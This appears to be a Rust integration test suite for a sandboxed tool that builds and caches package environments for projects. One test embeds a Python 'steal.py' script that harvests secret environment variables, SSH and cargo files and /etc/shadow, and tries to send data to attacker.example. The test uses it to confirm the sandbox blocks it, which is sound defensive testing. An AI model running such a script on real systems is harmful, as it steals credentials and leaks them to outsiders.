//! Environments built with real package clients in the real sandbox.
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use fixer::diagnose::Framework;
use fixer::prepare::{Environment, PrepareError, PrepareSpec, Preparer, Settings};
use sandbox::{Command, Finished, Mount, Sandbox};
use tempfile::TempDir;

/// A project on disk, a folder of layers, and a sandbox.
struct Scene {
    sandbox: Arc<dyn Sandbox>,
    checkout: TempDir,
    layers: TempDir,
    settings: Settings,
}

impl Scene {
    /// `None` where nothing can be confined; that is an error in CI.
    fn of(files: &[(&str, &str)]) -> Option<Self> {
        let sandbox = match sandbox::open(&sandbox::Settings::default()) {
            Ok(sandbox) => sandbox,
            Err(reason) => return skipped(&reason.to_string()),
        };
        let checkout = tempfile::tempdir().unwrap();
        for (name, text) in files {
            let path = checkout.path().join(name);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        }
        // The tools of whoever runs the tests.
        let settings = Settings {
            search_path: std::env::var("PATH").unwrap(),
            ..Settings::default()
        };
        Some(Self {
            sandbox,
            checkout,
            layers: tempfile::tempdir().unwrap(),
            settings,
        })
    }

    fn preparer(&self) -> Preparer {
        Preparer::new(Arc::clone(&self.sandbox), self.layers.path(), self.settings.clone())
    }

    async fn prepare(&self, spec: &PrepareSpec) -> Result<Environment, PrepareError> {
        self.preparer()
            .prepare(self.checkout.path(), spec, &|line| println!("  {line}"))
            .await
    }

    /// Runs a command as a later stage does: no network, the checkout writable, then the environment's mounts.
    async fn run(&self, environment: &Environment, argv: &[&str]) -> Finished {
        let mut command = Command::new(argv.iter().copied())
            .mount(Mount::read_write(self.checkout.path(), "/work"))
            .mounts(environment.mounts.clone())
            .cwd("/work");
        command.env.extend(environment.env.clone());
        self.sandbox.run(&command).await.unwrap()
    }
}

fn skipped<T>(reason: &str) -> Option<T> {
    assert!(std::env::var_os("CI").is_none(), "nothing is skipped in CI: {reason}");
    println!("SKIPPED 1: {reason}");
    None
}

/// Whether the machine can install anything at all, as its own pip says.
async fn has_network(scene: &Scene) -> bool {
    let trial = Scene {
        checkout: tempfile::tempdir().unwrap(),
        layers: tempfile::tempdir().unwrap(),
        sandbox: Arc::clone(&scene.sandbox),
        settings: scene.settings.clone(),
    };
    std::fs::write(trial.checkout.path().join("requirements.txt"), "iniconfig\n").unwrap();
    match trial.prepare(&spec(Some(Framework::Unittest))).await {
        Ok(_) => true,
        Err(PrepareError::Environment { tail, .. })
            if ["resolve", "NewConnectionError", "Tunnel", "timed out", "ProxyError"]
                .iter()
                .any(|sign| tail.contains(sign)) =>
        {
            skipped::<()>(&format!("no network to a package index: {tail}")).is_some()
        }
        Err(error) => panic!("{error:#?}"),
    }
}

fn spec(runner: Option<Framework>) -> PrepareSpec {
    PrepareSpec {
        origin: "acme/shop 0".into(),
        setup_command: None,
        runner,
        inside: PathBuf::from("/work"),
    }
}

fn setup(command: &str) -> PrepareSpec {
    PrepareSpec {
        origin: "acme/shop 0".into(),
        setup_command: Some(command.to_owned()),
        ..spec(Some(Framework::Unittest))
    }
}

#[tokio::test]
async fn a_layer_is_built_once_and_found_again_without_a_network() {
    let Some(scene) = Scene::of(&[
        ("requirements.txt", "iniconfig\n"),
        ("pyproject.toml", "[project]\nname = 'tiny-shop'\nversion = '1.2.3'\n"),
        ("src/tiny/__init__.py", "def two(): return 2\n"),
        (
            "tests/test_tiny.py",
            "import importlib.metadata\nimport iniconfig\nfrom tiny import two\n\ndef test_two():\n    assert two() == 2\n    assert importlib.metadata.version('tiny-shop') == '1.2.3'\n",
        ),
    ]) else {
        return;
    };
    if !has_network(&scene).await {
        return;
    }
    let preparer = scene.preparer();
    let asked = spec(None);
    let say = |line: &str| println!("  {line}");
    let first = preparer.prepare(scene.checkout.path(), &asked, &say).await.unwrap();
    println!("built in {:?}", first.wall);
    assert!(!first.cached && first.layer.is_some());
    assert!(first.log_tail.contains("Successfully installed"), "{}", first.log_tail);

    let start = Instant::now();
    let second = preparer.prepare(scene.checkout.path(), &asked, &say).await.unwrap();
    let again = start.elapsed();
    println!("found in {again:?}");
    assert!(second.cached && second.key == first.key);
    assert!(again < Duration::from_millis(50), "{again:?}");

    // Another process has no registry to ask, and finds the layer all the same.
    let offline = Scene {
        settings: Settings {
            pip_index: Some("https://nowhere.invalid/simple".into()),
            ..scene.settings.clone()
        },
        ..scene
    };
    assert!(offline.prepare(&spec(None)).await.unwrap().cached);

    // pytest was added, nothing of the project was built, and its packages and metadata are found.
    let finished = offline.run(&second, &["pytest", "-q", "-p", "no:cacheprovider"]).await;
    assert!(
        finished.succeeded() && finished.stdout.text.contains("1 passed"),
        "{finished:?}"
    );
    // The layer cannot be changed by what runs on it.
    let finished = offline
        .run(
            &second,
            &[
                "sh",
                "-c",
                "touch /opt/fixpoint/env/bin/python2 || touch /opt/fixpoint/x",
            ],
        )
        .await;
    assert!(
        !finished.succeeded() && finished.stderr.text.contains("Read-only"),
        "{finished:?}"
    );
    let python = second.python.as_ref().unwrap().to_str().unwrap();
    assert_eq!(
        offline
            .run(&second, &[python, "-c", "import sys; print(sys.prefix)"])
            .await
            .stdout
            .text
            .trim(),
        "/opt/fixpoint/env"
    );
}

#[tokio::test]
async fn a_requirement_that_does_not_exist_is_the_projects_failure_in_pips_words() {
    let Some(scene) = Scene::of(&[("requirements.txt", "iniconfig==99999.1\n")]) else {
        return;
    };
    if !has_network(&scene).await {
        return;
    }
    let error = scene.prepare(&spec(Some(Framework::Unittest))).await.unwrap_err();
    let PrepareError::Environment { command, exit, tail } = &error else {
        panic!("{error:?}")
    };
    assert_eq!(command, "pip install iniconfig==99999.1");
    assert_eq!(exit, "exit code 1");
    assert!(
        tail.contains("No matching distribution found for iniconfig==99999.1"),
        "{tail}"
    );
    assert!(error.to_string().contains("No matching distribution"), "{error}");
    // A failed build leaves no layer behind, and no draft.
    let left: Vec<_> = std::fs::read_dir(scene.layers.path())
        .unwrap()
        .map(|entry| entry.unwrap().file_name())
        .filter(|name| !name.to_string_lossy().ends_with(".lock"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

#[tokio::test]
async fn a_project_that_needs_nothing_gets_its_interpreter_and_no_layer() {
    let Some(scene) = Scene::of(&[
        ("shop.py", "X = 1\n"),
        ("tests/__init__.py", ""),
        (
            "tests/test_shop.py",
            "import unittest\nimport shop\nclass A(unittest.TestCase):\n    def test_x(self): self.assertEqual(shop.X, 1)\n",
        ),
    ]) else {
        return;
    };
    let environment = scene.prepare(&spec(None)).await.unwrap();
    assert!(environment.layer.is_none() && std::fs::read_dir(scene.layers.path()).unwrap().next().is_none());
    let python = environment.python.as_ref().unwrap().to_str().unwrap();
    let finished = scene
        .run(&environment, &[python, "-m", "unittest", "-q", "tests.test_shop"])
        .await;
    assert!(finished.succeeded(), "{finished:?}");
}

#[tokio::test]
async fn a_setup_command_gets_out_to_no_one_and_finds_no_secret() {
    // A server of someone else, on this machine and reachable from it.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let calls = Arc::new(AtomicUsize::new(0));
    let counted = Arc::clone(&calls);
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            counted.fetch_add(1, Ordering::SeqCst);
            let _ = stream.unwrap().write_all(b"HTTP/1.0 200 OK\r\n\r\nhello");
        }
    });
    let mut reachable = TcpStream::connect(("127.0.0.1", port)).unwrap();
    let mut hello = String::new();
    reachable.read_to_string(&mut hello).unwrap();
    assert!(hello.contains("hello"));
    assert_eq!(calls.load(Ordering::SeqCst), 1);

    let canary = tempfile::NamedTempFile::new().unwrap();
    let steal = format!(
        r#"
import os, socket, urllib.request
found = []
for name in os.environ:
    if any(word in name.upper() for word in ("SECRET", "TOKEN", "PASSWORD", "CARGO", "PWD_OF_HOST")): found.append(name)
for path in ("{home}/.ssh", "{home}/.cargo", "{home}/.gitconfig", "{home}/.bashrc", "/home", "/etc/shadow", "{canary}", "{host}"):
    try: found.append(path + str(os.listdir(path) if os.path.isdir(path) else open(path).read()))
    except OSError: pass
for process in filter(str.isdigit, os.listdir("/proc")):
    try: command = open("/proc/%s/cmdline" % process).read()
    except OSError: continue
    if "cargo" in command or "target/debug" in command: found.append(command)
for address in (("127.0.0.1", {port}), ("203.0.113.7", 443), ("192.0.2.1", 53)):
    try: socket.create_connection(address, timeout=2); found.append("connected %s" % (address,))
    except OSError: pass
for url in ("http://127.0.0.1:{port}/?stolen", "http://localhost:{port}/?stolen", "http://attacker.example/?stolen"):
    try: found.append(urllib.request.urlopen(url, timeout=5).read().decode())
    except OSError: pass
print("FOUND", found)
open("made.txt", "w").write("made")
open("secret.py", "w").write("changed")
os.symlink("/etc", "trap")
"#,
        home = std::env::home_dir().unwrap().display(),
        canary = canary.path().display(),
        host = std::env::current_dir().unwrap().display()
    );
    let Some(scene) = Scene::of(&[
        ("steal.py", steal.as_str()),
        ("secret.py", "original"),
        ("tests/test_a.py", "import unittest\n"),
    ]) else {
        return;
    };
    let environment = scene.prepare(&setup("env; python steal.py")).await.unwrap();
    assert!(environment.log_tail.contains("FOUND []"), "{}", environment.log_tail);
    assert_eq!(calls.load(Ordering::SeqCst), 1, "nobody called again");
    assert!(
        environment
            .refused_hosts
            .iter()
            .any(|host| host == "attacker.example:80"),
        "{:?}",
        environment.refused_hosts
    );
    // The checkout is as it was; what was made is laid over it, but no link and no changed file.
    assert!(!scene.checkout.path().join("made.txt").exists());
    let finished = scene
        .run(&environment, &["sh", "-c", "cat made.txt secret.py; ls -d trap"])
        .await;
    assert!(finished.stdout.text.starts_with("madeoriginal"), "{finished:?}");
    assert!(!finished.stdout.text.contains("trap"), "{finished:?}");
    // The same command on the same files is not run again; another one is.
    assert!(scene.prepare(&setup("env; python steal.py")).await.unwrap().cached);
    assert!(!scene.prepare(&setup("true")).await.unwrap().cached);
}

#[tokio::test]
async fn a_setup_command_that_fails_is_an_environment_failure_with_its_output() {
    let Some(scene) = Scene::of(&[("tests/test_a.py", "import unittest\n")]) else {
        return;
    };
    let error = scene
        .prepare(&setup("echo going; echo 'error: no compiler' >&2; exit 3; echo never"))
        .await
        .unwrap_err();
    let PrepareError::Environment { exit, tail, .. } = &error else {
        panic!("{error:?}")
    };
    assert_eq!(exit, "exit code 3");
    assert!(
        tail.contains("going") && tail.contains("error: no compiler") && !tail.contains("never"),
        "{tail}"
    );
}

#[tokio::test]
async fn two_at_once_build_one_layer() {
    let Some(scene) = Scene::of(&[("tests/test_a.py", "import unittest\n")]) else {
        return;
    };
    let spec = setup("sleep 1; date +%N > stamp.txt");
    let (one, two) = tokio::join!(scene.prepare(&spec), scene.prepare(&spec));
    let (one, two) = (one.unwrap(), two.unwrap());
    assert!(one.cached != two.cached, "one of them built it and the other waited");
    assert_eq!(one.layer, two.layer);
    assert!(one.is_leased() && two.is_leased());
}

#[tokio::test]
async fn node_modules_are_installed_from_the_lock_file() {
    let Some(scene) = Scene::of(&[
        (
            "package.json",
            r#"{"name":"x","version":"1.0.0","dependencies":{"ms":"2.1.3"}}"#,
        ),
        ("x.test.js", "console.log(require('ms')('2 days'))"),
    ]) else {
        return;
    };
    // The lock file of a person's machine, without its hash: made by hand.
    let lock = r#"{"name":"x","version":"1.0.0","lockfileVersion":3,"requires":true,"packages":{"":{"name":"x","version":"1.0.0","dependencies":{"ms":"2.1.3"}},"node_modules/ms":{"version":"2.1.3"}}}"#;
    if scene
        .settings
        .search_path
        .split(':')
        .all(|folder| !Path::new(folder).join("npm").is_file())
    {
        skipped::<()>("npm is not installed");
        return;
    }
    std::fs::write(scene.checkout.path().join("yarn.lock"), "").unwrap();
    let error = scene.prepare(&spec(Some(Framework::Jest))).await.unwrap_err();
    assert!(
        matches!(&error, PrepareError::Environment { command, tail, .. } if command == "yarn" && tail.contains("setup command")),
        "{error:?}"
    );
    std::fs::remove_file(scene.checkout.path().join("yarn.lock")).unwrap();
    std::fs::write(scene.checkout.path().join("package-lock.json"), lock).unwrap();
    if !has_network(&scene).await {
        return;
    }
    let environment = scene.prepare(&spec(Some(Framework::Jest))).await.unwrap();
    println!("npm ci in {:?}", environment.wall);
    let node = environment.node.as_ref().unwrap().to_str().unwrap();
    let finished = scene.run(&environment, &[node, "x.test.js"]).await;
    assert_eq!(finished.stdout.text.trim(), "172800000", "{finished:?}");
}

#[tokio::test]
async fn a_project_whose_needs_only_its_build_backend_knows_is_built_in_a_copy() {
    let Some(scene) = Scene::of(&[
        (
            "setup.py",
            "from setuptools import setup\nopen('ran.txt', 'w').close()\nneeds = ['ini' + 'config']\nsetup(name='shop', version='3', py_modules=['shop'], install_requires=needs)\n",
        ),
        ("shop.py", "import iniconfig\nWHERE = __file__\n"),
        ("tests/test_shop.py", "import unittest\n"),
    ]) else {
        return;
    };
    if !has_network(&scene).await {
        return;
    }
    let environment = scene.prepare(&spec(Some(Framework::Unittest))).await.unwrap();
    assert!(
        !scene.checkout.path().join("ran.txt").exists(),
        "the checkout is not written to"
    );
    // The tests see the source of the checkout, not the installed copy of it.
    let finished = scene
        .run(&environment, &["python", "-c", "import shop; print(shop.WHERE)"])
        .await;
    assert_eq!(finished.stdout.text.trim(), "/work/shop.py", "{finished:?}");
}

#[tokio::test]
async fn a_machine_without_venv_is_told_which_package_brings_it() {
    let Some(mut scene) = Scene::of(&[
        ("requirements.txt", "iniconfig\n"),
        ("tests/test_a.py", "import unittest\n"),
    ]) else {
        return;
    };
    scene.settings.search_path = "/nowhere".into();
    let error = scene.prepare(&spec(None)).await.unwrap_err();
    assert!(
        matches!(&error, PrepareError::Environment { tail, .. } if tail.contains("apt-get install -y python3")),
        "{error:?}"
    );
    // A Python that cannot make environments, as Debian ships it without one package.
    let system = Path::new("/usr/bin/python3");
    let trial = Command::new(["/usr/bin/python3", "-c", "import ensurepip"]);
    if !system.is_file() || scene.sandbox.run(&trial).await.unwrap().succeeded() {
        skipped_here("this machine's Python can make environments");
        return;
    }
    scene.settings.search_path = "/usr/bin".into();
    let error = scene.prepare(&spec(None)).await.unwrap_err();
    assert!(
        matches!(&error, PrepareError::Environment { tail, .. } if tail.contains("-venv`")),
        "{error:?}"
    );
}

/// Skipped because of how this machine is, which is no gap in CI.
fn skipped_here(reason: &str) {
    println!("SKIPPED 1: {reason}");
}
